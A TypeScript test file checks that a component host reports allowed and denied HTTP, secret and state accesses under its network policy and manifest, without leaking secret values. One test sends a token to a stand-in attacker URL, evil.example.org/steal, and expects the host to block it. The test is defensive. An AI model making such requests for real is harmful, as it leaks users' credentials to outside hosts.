import { AsyncLocalStorage } from 'node:async_hooks';
import {
  type HostCall,
  HostServiceError,
  memoryHostServices,
  type ScopedSecretKey,
  StubHostHttp,
} from '@greentic/interfaces';
import type { NetworkPolicy } from '@greentic/types';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  ComponentHost,
  type ComponentManifest,
  componentOfCall,
  type LoadedComponent,
  type PolicyDecision,
  WasmComponentRegistry,
} from '../src/index.js';
import { ctxOf, envelope, fixture, manifestFor, secretReq } from './helpers.js';

/** The async context the caller of `invoke` runs in; decisions must be reported inside it. */
const caller = new AsyncLocalStorage<string>();
const decisions: (PolicyDecision & { seenIn: string | undefined })[] = [];
const callsSeen: { call: HostCall; key: ScopedSecretKey }[] = [];

const base = memoryHostServices({
  secrets: { 'secrets://dev/acme/_/openai/api_key': 'sk-acme-0123456789' },
  http: new StubHostHttp(() => ({ status: 204, headers: [] })),
});
const services = {
  ...base,
  secrets: {
    get(call: HostCall, key: ScopedSecretKey) {
      callsSeen.push({ call, key });
      if (key.key === 'openai/org') {
        throw Object.assign(new Error(`secret ${key.uri} is denied: the allow-list grants it to nobody`), {
          code: 'GT_SECRETS_DENIED',
        });
      }
      if (key.key === 'openai/broken') throw new HostServiceError('internal', 'backend down');
      return base.secrets.get(call, key);
    },
  },
};
const host = new ComponentHost({
  services,
  workers: 1,
  onPolicyDecision: (d) => {
    decisions.push({ ...d, seenIn: caller.getStore() });
    if (d.resource === 'boom') throw new Error('a listener that throws changes nothing');
  },
});
afterAll(() => host.close());

const POLICY: NetworkPolicy = {
  egress: { domains: ['api.example.com'], protocols: ['https'] },
  deny_on_miss: true,
};
const CAPS: ComponentManifest['capabilities']['host'] = {
  secrets: { required: [secretReq('openai/api_key'), secretReq('openai/org'), secretReq('openai/broken')] },
  state: { read: true, write: false },
  http: { client: true },
};

let bytes: Uint8Array;
let tool: LoadedComponent;
beforeAll(async () => {
  bytes = (await fixture('host')).bytes;
  tool = await host.load({ id: 'tool', bytes, manifest: manifestFor(bytes, CAPS), network: POLICY });
});
beforeEach(() => {
  decisions.length = 0;
  callsSeen.length = 0;
});

const call = (op: string, payload: unknown, label = 'node-span') =>
  caller.run(label, () => host.invoke(tool, op, envelope(ctxOf('acme'), payload)));

/** The decision fields that do not depend on the call. */
const brief = (d: PolicyDecision) => ({
  capability: d.capability,
  operation: d.operation,
  resource: d.resource,
  decision: d.decision,
  source: d.source,
});

describe('onPolicyDecision', () => {
  it('reports an allowed and a denied HTTP destination, in the caller’s async context', async () => {
    await expect(call('http', 'https://api.example.com/v1/x?token=abc', 'span-1')).resolves.toMatchObject({
      ok: true,
    });
    await expect(call('http', 'https://evil.example.org/steal?token=abc', 'span-2')).rejects.toMatchObject({
      code: 'GT_COMPONENT_DENIED',
    });
    await expect(call('http', 'ftp://api.example.com/x', 'span-3')).rejects.toMatchObject({
      code: 'GT_COMPONENT_DENIED',
    });
    expect(decisions.map(brief)).toEqual([
      {
        capability: 'http',
        operation: 'GET',
        resource: 'api.example.com:443',
        decision: 'allow',
        source: 'network-policy',
      },
      {
        capability: 'http',
        operation: 'GET',
        resource: 'evil.example.org:443',
        decision: 'deny',
        source: 'network-policy',
      },
      { capability: 'http', operation: 'GET', resource: 'ftp:', decision: 'deny', source: 'manifest' },
    ]);
    expect(decisions.map((d) => d.seenIn)).toEqual(['span-1', 'span-2', 'span-3']);
    expect(decisions[1]!.reason).toContain("not allowed by the component's network policy");
    expect(decisions[0]).toMatchObject({ component: 'tool', ctx: { tenant_id: 'acme' } });
    // paths and queries may hold tokens: never reported
    expect(JSON.stringify(decisions)).not.toContain('token=abc');
  });

  it('reports secrets decided by the manifest and by the secrets service, never a value', async () => {
    await expect(call('secret', 'openai/api_key')).resolves.toMatchObject({ ok: true });
    await expect(call('secret', 'openai/org')).resolves.toMatchObject({
      ok: false,
      error: { code: 'secret_error', message: 'denied' },
    });
    await expect(call('secret', 'stripe/key')).rejects.toMatchObject({ code: 'GT_COMPONENT_DENIED' });
    await expect(call('secret', 'openai/broken')).resolves.toMatchObject({
      ok: false,
      error: { message: 'internal' },
    });
    expect(decisions.map(brief)).toEqual([
      {
        capability: 'secrets',
        operation: 'get',
        resource: 'openai/api_key',
        decision: 'allow',
        source: 'secrets-service',
      },
      {
        capability: 'secrets',
        operation: 'get',
        resource: 'openai/org',
        decision: 'deny',
        source: 'secrets-service',
      },
      {
        capability: 'secrets',
        operation: 'get',
        resource: 'stripe/key',
        decision: 'deny',
        source: 'manifest',
      },
    ]);
    expect(decisions[1]!.reason).toContain('the allow-list grants it to nobody');
    expect(JSON.stringify(decisions)).not.toContain('sk-acme-0123456789');
  });

  it('reports state operations granted and refused by the manifest', async () => {
    await call('read', 'counter');
    await expect(call('write', ['counter', '1'])).rejects.toMatchObject({ code: 'GT_COMPONENT_DENIED' });
    await expect(call('ctx-read', 'counter')).rejects.toMatchObject({ code: 'GT_COMPONENT_DENIED' });
    expect(decisions.map(brief)).toEqual([
      { capability: 'state', operation: 'read', resource: 'counter', decision: 'allow', source: 'manifest' },
      { capability: 'state', operation: 'write', resource: 'counter', decision: 'deny', source: 'manifest' },
      { capability: 'state', operation: 'read', resource: 'counter', decision: 'deny', source: 'tenant' },
    ]);
  });

  it('ignores a listener that throws', async () => {
    await expect(call('read', 'boom')).resolves.toMatchObject({ ok: false, error: { code: 'not_found' } });
    expect(decisions.map(brief)).toEqual([
      { capability: 'state', operation: 'read', resource: 'boom', decision: 'allow', source: 'manifest' },
    ]);
  });

  it('lets a host service find the loaded component of a call (manifest, secret category), not of a copy', async () => {
    await call('secret', 'openai/api_key');
    const seen = callsSeen[0]!;
    expect(componentOfCall(seen.call)).toBe(tool);
    expect(componentOfCall(seen.call)?.manifest?.capabilities.host.secrets?.required).toHaveLength(3);
    expect(componentOfCall({ ...seen.call })).toBeUndefined();
  });

  it('turns a denied HTTP request into a permission_denied outcome the flow can route on', async () => {
    const registry = new WasmComponentRegistry(host).add(tool);
    const invoker = registry.resolve(
      { kind: 'component', component: 'tool', operation: 'http' },
      ctxOf('acme'),
    )!;
    const outcome = await invoker.invoke('http', envelope(ctxOf('acme'), 'https://evil.example.org/'));
    expect(outcome).toEqual({
      Error: {
        code: 'permission_denied',
        message: expect.stringMatching(/^GT_COMPONENT_DENIED: .*evil\.example\.org:443/),
      },
    });
  });
});
